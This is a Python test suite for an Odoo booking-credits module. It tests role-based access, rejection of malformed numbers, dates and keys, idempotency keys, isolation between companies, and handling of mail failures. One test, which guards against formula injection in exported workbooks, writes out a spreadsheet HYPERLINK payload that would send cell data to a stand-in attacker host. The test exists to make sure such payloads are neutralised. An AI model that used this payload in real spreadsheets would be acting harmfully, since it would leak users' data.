import io
from datetime import timedelta
from unittest.mock import patch

from psycopg2.errors import CheckViolation

from odoo import fields
from odoo.exceptions import AccessError, UserError
from odoo.fields import Command
from odoo.tests import new_test_user, tagged
from odoo.tools import mute_logger

from ..const import MAX_UNITS
from ..exceptions import IdempotencyConflictError, InsufficientCreditsError
from ..safely import safely
from ..table_xlsx import write_workbook
from .common import BookingCreditsCommon

RUBBISH = (float("nan"), float("inf"), 1e300, 1e10, "5", None, [1], True)


@tagged("post_install", "-at_install", "booking_credits_alone")
class TestLedgerGuards(BookingCreditsCommon):
    """The server decides: who may, how many, on which lot (attacks of November 2026)."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.bob = cls.env["res.partner"].create({"name": "Bob"})
        cls.lots = cls.env["booking.credit.lot"]

        def user(login, groups, company=cls.company):
            return new_test_user(
                cls.env,
                login,
                groups=groups,
                company_id=company.id,
                company_ids=[Command.set(company.ids)],
            )

        cls.desk = user(
            "desk_and_bills",
            "booking_credits.booking_credits_group_user,account.group_account_invoice",
        )
        cls.manager = user("manager", "booking_credits.booking_credits_group_manager")
        cls.other_company = cls.setup_other_company()["company"]
        cls.stranger = user(
            "manager_2",
            "booking_credits.booking_credits_group_manager",
            cls.other_company,
        )

    def _as(self, user, records):
        self.env.invalidate_all()
        return records.with_user(user).with_context(allowed_company_ids=None)

    # --- who

    def test_invoicing_does_not_make_an_accountant_of_credits(self):
        """H1: no verb that gives, pays out or posts is open to the front desk."""
        lot = self._buy()
        self._book()
        entry = lot.entry_ids.filtered(lambda entry: entry.type == "redeem")
        mine, entries = self._as(self.desk, lot), self._as(self.desk, entry)
        dashboard = self.env["booking.credit.dashboard"]
        calls = {
            "grant": lambda: mine.grant(self.bob.id, 5, "x"),
            "adjust": lambda: mine.adjust(5, "x"),
            "transfer": lambda: mine.transfer(5, self.bob.id, "x"),
            "reset": lambda: mine.reset(5),
            "extend": lambda: mine.extend("x", days=3),
            "reactivate": lambda: mine.reactivate("2099-01-01"),
            "restore": lambda: mine.restore(entry.ids, "x"),
            "refund": lambda: mine.refund(5, "x"),
            "expire": lambda: mine.expire(),
            "pause": lambda: mine.pause("2099-01-01", "2099-01-02", "x"),
            "dormant": lambda: mine.recognise_dormant(),
            "release to receivable": lambda: mine.action_release_to_receivable(),
            "post": lambda: entries.action_post_due(),
            "post all": lambda: entries.action_post_all_due(),
            "check": lambda: mine.action_check_companies(),
            "dashboard": lambda: self._as(self.desk, dashboard).get_data(),
            "report": lambda: self._as(
                self.desk, self.env["booking.credit.liability"]
            ).get_report(),
        }
        for name, call in calls.items():
            with self.subTest(name), self.assertRaises(AccessError):
                call()
        self.assertEqual(lot.balance, 90)

    def test_accountants_of_credits_are_chosen_or_come_with_accounting(self):
        group = self.env.ref("booking_credits.booking_credits_group_accountant")
        for name, implied in (
            ("account.group_account_manager", True),
            ("account.group_account_user", True),
            ("account.group_account_invoice", False),
        ):
            implies = self.env.ref(name).all_implied_ids
            self.assertEqual(group in implies, implied, name)
        # a user's form offers it by itself
        self.assertTrue(group.privilege_id)
        self.assertNotEqual(
            group.privilege_id,
            self.env.ref("booking_credits.res_groups_privilege_booking_credits"),
        )

    def test_the_front_desk_extends_as_far_as_the_company_lets_it(self):
        """M12: 30 days by default; a manager ten years; rubbish never."""
        check = self._as(self.desk, self.lots)._check_extend_days
        for days in (0, 1, 30):
            check(days, self.company)
        for days in (31, -1, 2.5, 2e9, 1e12, *RUBBISH):
            with self.subTest(days=days), self.assertRaises(UserError):
                check(days, self.company)
        self.company.booking_front_desk_extend_days = 0
        with self.assertRaisesRegex(UserError, "ask a manager"):
            check(1, self.company)
        check = self._as(self.manager, self.lots)._check_extend_days
        check(3650, self.company)
        for days in (3651, *RUBBISH):
            with self.subTest(days=days), self.assertRaises(UserError):
                check(days, self.company)

    def test_we_cancel_extends_within_the_limit(self):
        self._buy()
        order = self._book()
        dialog = self._as(self.desk, self.env["booking.cancel.many"]).create(
            {"line_ids": [Command.set(order.order_line.ids)], "by": "provider"}
        )
        dialog.write({"reason": "storm", "extend_days": 100000})
        with self.assertRaisesRegex(UserError, "at most 30"):
            dialog.action_apply()

    # --- how many

    def test_what_is_no_number_is_refused_with_a_sentence(self):
        """M7, L3, L6: not finite, text, beyond all measure; in every verb."""
        lot = self._buy()
        verbs = {
            "hold": lambda n: lot.hold(n, self.yoga, reason="x"),
            "redeem": lambda n: lot.redeem(n, self.yoga, reason="x"),
            "adjust": lambda n: lot.adjust(n, "x"),
            "transfer": lambda n: lot.transfer(n, self.bob, "x"),
            "reset": lambda n: lot.reset(n, "x"),
            "refund": lambda n: lot.refund(n, "x"),
            "grant": lambda n: lot.grant(self.bob, n, "x"),
        }
        for name, verb in verbs.items():
            for number in RUBBISH:
                with self.subTest(name, number=number), self.assertRaises(UserError):
                    verb(number)
        for number in (0.004, -0.004):
            with self.assertRaises(UserError):
                lot.transfer(number, self.bob, "x")
        self.assertEqual(len(self.lots.search([])), 1)
        self.assertEqual(lot.balance, 100)

    def test_what_is_no_record_no_day_and_no_key_is_refused_with_a_sentence(self):
        lot = self._buy()
        calls = (
            lambda: lot.redeem(1, "yoga", reason="x"),
            lambda: lot.redeem(1, 2**40, reason="x"),
            lambda: lot.redeem(1, self.bob, reason="x"),
            lambda: lot.grant(self.bob, 1, "x", valid_until="soon"),
            lambda: lot.grant(self.bob, 1, "x", measure="gold"),
            lambda: lot.grant(self.bob, 1, 7),
            lambda: lot.reactivate("soon"),
            lambda: lot.extend("x", valid_until="soon"),
            lambda: lot.extend("x", valid_until="9999-12-31"),
            lambda: lot.extend("x", days=1e12),
            lambda: lot.pause("soon", None, "x"),
            lambda: lot.adjust(1, "x", key={"a": 1}),
            lambda: lot.adjust(1, "x", key="a\0"),
            lambda: lot.adjust(1, "a\0"),
            lambda: lot.claim("A\0B", self.bob),
            lambda: lot.claim(5, self.bob),
            lambda: lot.hold(1, self.yoga, until="soon", reason="x"),
        )
        for number, call in enumerate(calls):
            with self.subTest(call=number), self.assertRaises(UserError):
                call()

    def test_the_database_itself_bounds_the_sums(self):
        """M7: behind the verbs stand constraints; NaN is more than any number."""
        lot = self._buy()
        self.env.flush_all()
        for number in (MAX_UNITS + 1, "NaN"):
            for column in ("balance", "value", "granted"):
                with (
                    self.subTest(column, number=number),
                    mute_logger("odoo.sql_db"),
                    self.assertRaisesRegex(
                        CheckViolation, "size_sound|quantities_sound"
                    ),
                    self.env.cr.savepoint(),
                ):
                    self.env.cr.execute(
                        f"UPDATE booking_credit_lot SET {column} = %s::numeric * 1001 "
                        "WHERE id = %s",
                        (number, lot.id),
                    )
        lot.adjust(MAX_UNITS - 100, "all there is")
        with mute_logger("odoo.sql_db"), self.assertRaises(CheckViolation):
            lot.adjust(MAX_UNITS, "and more")
        lot.adjust(0.01 - (MAX_UNITS - 100), "back")
        self.assertEqual(lot.balance, 100.01)

    # --- on which lot

    def test_a_key_stands_for_one_request_on_one_lot(self):
        """M8: the same key on another lot is another request."""
        first, second = self._buy(), self._buy()
        verbs = {
            "adjust": lambda lot, key: lot.adjust(1, "x", key=key),
            "reset": lambda lot, key: lot.reset(50, "x", key=key),
            "hold": lambda lot, key: lot.hold(5, self.yoga, key=key, reason="x"),
            "redeem": lambda lot, key: lot.redeem(5, self.yoga, key=key, reason="x"),
            "transfer": lambda lot, key: lot.transfer(5, self.bob, "x", key=key),
            "refund": lambda lot, key: lot.refund(1, "x", key=key),
            "extend": lambda lot, key: lot.extend("x", days=3, key=key),
        }
        for name, verb in verbs.items():
            with self.subTest(name):
                done = verb(first, f"k-{name}")
                self.assertEqual(verb(first, f"k-{name}"), done)
                with self.assertRaises(IdempotencyConflictError):
                    verb(second, f"k-{name}")

    def test_a_voucher_is_claimed_once_under_one_key(self):
        gift = self._create_pack("Gift", 10, 9.0, booking_credit_voucher=True)
        lot = self._buy(gift)
        code = lot.code
        mine = self._as(self.front_desk, self.lots)
        done = mine.claim(code, self.bob.id, key="c")
        self.assertEqual(mine.claim(f" {code.lower()} ", self.bob.id, key="c"), done)
        with self.assertRaises(IdempotencyConflictError):
            mine.claim(code, self.anna.id, key="c")
        self.assertEqual(done[-1].lot_id.partner_id, self.bob)

    def test_journal_items_stay_with_their_lot(self):
        """M10: posted or draft, only the verbs say what moved credits."""
        first, second = self._buy(), self._buy()
        line = first.source_line_id
        books = self._as(self.accountant, line)
        with self.assertRaisesRegex(AccessError, "Credit Lot"):
            books.booking_credit_lot_id = second.id
        move = self._as(self.accountant, line.move_id)
        with self.assertRaises(UserError):
            move.write(
                {
                    "line_ids": [
                        Command.update(line.id, {"booking_credit_lot_id": second.id})
                    ]
                }
            )
        with self.assertRaises(AccessError):
            move.booking_credit_use_invoice = True
        draft = {
            "move_type": "out_refund",
            "partner_id": self.anna.id,
            "invoice_line_ids": [
                Command.create(
                    {"name": "x", "price_unit": 1, "booking_credit_lot_id": first.id}
                )
            ],
        }
        with self.assertRaises(AccessError):
            self._as(self.accountant, self.env["account.move"]).create(draft)
        with self.assertRaises(AccessError):
            self._as(self.accountant, self.env["account.move.line"]).with_context(
                default_booking_credit_lot_id=first.id
            ).create({"move_id": line.move_id.id, "name": "x"})
        # what changes nothing is no change
        books.write({"booking_credit_lot_id": first.id})
        self.assertEqual(line.booking_credit_lot_id, first)

    def test_dialogs_show_nothing_that_their_user_may_not_read(self):
        """M11: lots and orders of another company."""
        lot, order = self._buy(), self._book()
        for model, values in (
            ("booking.credit.change", {"lot_id": lot.id, "kind": "adjust"}),
            (
                "booking.credit.pause",
                {"lot_id": lot.id, "last_day": "2099-01-01", "reason": "x"},
            ),
            ("booking.credit.extend", {"lot_ids": lot.ids, "reason": "x"}),
            ("booking.voucher.text", {"lot_id": lot.id}),
            ("booking.credit.pay", {"order_id": order.id}),
            ("booking.cancel.many", {"line_ids": order.order_line.ids}),
        ):
            with self.subTest(model), self.assertRaises(AccessError):
                self._as(self.stranger, self.env[model]).create(values)
        books = new_test_user(
            self.env,
            "bookkeeper_2",
            groups="account.group_account_manager",
            company_id=self.other_company.id,
            company_ids=[Command.set(self.other_company.ids)],
        )
        for model, values in (
            ("booking.credit.post.due", {"company_id": self.company.id}),
            ("booking.credit.tie.out.run", {"company_ids": self.company.ids}),
        ):
            with self.subTest(model), self.assertRaises(AccessError):
                self._as(books, self.env[model]).create(values)
        with self.assertRaises(AccessError):
            self._as(books, self.env["booking.credit.post.due"]).onchange(
                {"company_id": self.company.id}, ["company_id"], {"due_value": {}}
            )
        dialog = self._as(self.stranger, self.env["booking.credit.change"])
        with self.assertRaises(AccessError):
            dialog.new({"lot_id": lot.id}).partner_id.name

    def test_what_a_client_puts_in_the_context_lifts_no_cap(self):
        """L1: neither with the old key, nor with the key of what verbs tell."""
        lot = self._buy(self._create_pack("Capped", 10, 9.0, booking_credit_cap_day=1))
        lot = self._as(self.front_desk, lot)
        lot.redeem(1, self.yoga.id, reason="x")
        for context in (
            {"booking_credit_uses": {}},
            {"booking_credits_inside": {"uses": {}}},
            {"booking_credits_provider_cancels": True},
        ):
            with self.assertRaises(InsufficientCreditsError):
                lot.with_context(**context).redeem(1, self.yoga.id, reason="x")

    def test_the_front_desk_says_why_and_holds_for_a_while(self):
        """L7: without a booking there is a reason, and a hold ends by itself."""
        lot = self._as(self.front_desk, self._buy())
        for reason in (None, "", "  ", 5):
            for verb in (lot.redeem, lot.hold):
                with self.assertRaisesRegex(UserError, "Say why"):
                    verb(1, self.yoga.id, reason=reason)
        until = lot.hold(1, self.yoga.id, reason="x").sudo().operation_id.hold_until
        week = fields.Datetime.now() + timedelta(days=7)
        self.assertAlmostEqual(until, week, delta=timedelta(minutes=5))
        now = fields.Datetime.now()
        for until in (now - timedelta(hours=1), now + timedelta(days=400)):
            with self.assertRaisesRegex(UserError, "between now and"):
                lot.hold(1, self.yoga.id, until=until, reason="x")

    def test_notes_about_customers_are_for_staff(self):
        """L8: no note is read by its number either, whoever wrote it."""
        portal = new_test_user(
            self.env, "anna_portal", groups="base.group_portal", email="a@example.com"
        )
        lot = self._buy(partner=portal.partner_id)
        order = lot.source_line_id.sale_line_ids.order_id
        for record in (lot, order, portal.partner_id):
            note = record.message_post(body="watch this customer")
            shown = record.message_post(
                body="hello", message_type="comment", subtype_xmlid="mail.mt_comment"
            )
            with self.subTest(record), self.assertRaises(AccessError):
                self._as(portal, note).read(["body"])
            self.assertIn("hello", self._as(portal, shown).body)
            self.assertIn("watch", self._as(self.front_desk, note).body)

    # --- workbooks

    def test_no_workbook_takes_a_name_for_a_formula(self):
        """M4: in cells, headings, labels and notes of every report."""
        import openpyxl

        evil = '=HYPERLINK("http://evil.example/?leak="&B5,"Open invoice")'
        table = {
            "title": "Report",
            "subtitles": [evil],
            "columns": [{"name": "a", "label": evil, "type": "text"}],
            "sections": [
                {
                    "company": evil,
                    "title": evil,
                    "decimal_places": 2,
                    "rows": [
                        {"kind": "plain", "label": evil, "cells": {"a": evil}},
                        {"kind": "plain", "label": "http://evil.example", "cells": {}},
                    ],
                }
            ],
            "notes": [evil],
        }
        content = write_workbook(
            table, dict.fromkeys(("company", "section", "label"), evil)
        )
        self._check_workbook(openpyxl, content)
        self.anna.name = evil
        self._buy()
        self._book()
        run = self.env["booking.credit.tie.out"]._run(self.company)
        shared = ("booking.credit.report", "booking.credit.owed")
        for name in self.env:
            if hasattr(self.env[name], "_get_xlsx") and name not in shared:
                with self.subTest(name):
                    options = {"run_id": run.id} if name == run._name else {}
                    content, _name = self.env[name]._get_xlsx(options)
                    self._check_workbook(openpyxl, content)

    def _check_workbook(self, openpyxl, content):
        for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows():
            for cell in row:
                self.assertFalse(cell.hyperlink)
                if cell.data_type == "f":
                    self.assertTrue(cell.value.startswith("=SUM("), cell.value)

    # --- mails

    def test_what_fails_beside_money_undoes_nothing(self):
        lot = self._buy()
        with mute_logger("odoo.addons.booking_credits.safely", "odoo.sql_db"):
            with safely(lot, "Mail with the voucher") as sending:
                lot.sudo().reminder_step = 5
                self.env.cr.execute("SELECT 1/0")
        self.assertTrue(sending.failed)
        self.assertFalse(lot.reminder_step)
        self.assertIn("Mail with the voucher failed", lot.message_ids[0].body)
        order = lot.source_line_id.sale_line_ids.order_id
        with mute_logger("odoo.addons.booking_credits.safely"):
            with safely(order, "Printing"):
                raise ValueError("no paper")
        self.assertIn("no paper", order.activity_ids.note)
        with safely(lot, "Nothing") as sending:
            pass
        self.assertFalse(sending.failed)

    def test_a_mail_that_cannot_be_written_leaves_the_extension(self):
        lot = self._buy()
        self.anna.email = "anna@example.com"
        before = lot.valid_until
        dialog = self.env["booking.credit.extend"].create(
            {"lot_ids": lot.ids, "reason": "x", "mode": "days", "days": 5}
        )
        with (
            patch.object(
                self.registry["mail.template"], "send_mail", side_effect=OSError("no")
            ),
            mute_logger("odoo.addons.booking_credits.safely"),
        ):
            dialog.action_extend()
        self.assertEqual(lot.valid_until, before + timedelta(days=5))
        self.assertIn("failed", self.anna.message_ids[0].body)
